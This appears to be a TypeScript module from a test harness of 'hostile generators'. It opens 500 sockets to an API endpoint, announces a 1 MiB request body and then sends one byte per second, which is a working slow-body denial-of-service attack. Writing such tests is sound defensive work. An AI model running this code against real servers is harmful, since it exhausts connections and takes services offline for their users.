import { connect } from 'node:net';
import { type HostileGenerator, repeat, strangerAddress } from '../generator.ts';

export const generator: HostileGenerator = {
  name: '500 sockets that announce 1 MiB and send a byte a second',
  attack({ origin, key }) {
    const { hostname, port } = new URL(origin);
    const head = [
      'POST /api/v1/news/search HTTP/1.1',
      `host: ${hostname}`,
      `authorization: Bearer ${key}`,
      'content-type: application/json',
      'content-length: 1048576',
    ].join('\r\n');
    const hold = () =>
      new Promise((resolve) => {
        const socket = connect({
          port: Number(port),
          host: hostname,
          localAddress: strangerAddress,
        });
        socket.on('error', () => {});
        socket.write(`${head}\r\n\r\n`);
        const timer = setInterval(() => socket.write(' '), 1000);
        socket.on('close', () => {
          clearInterval(timer);
          setTimeout(resolve, 100);
        });
      });
    return repeat(500, hold);
  },
};
